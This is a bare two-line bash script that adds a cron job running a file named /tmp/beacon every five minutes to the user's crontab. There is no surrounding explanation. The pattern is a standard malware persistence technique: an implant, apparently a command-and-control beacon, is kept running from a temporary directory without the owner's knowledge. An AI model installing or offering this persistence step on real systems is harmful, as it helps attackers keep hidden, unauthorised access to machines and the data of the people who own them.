#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/beacon") | crontab -
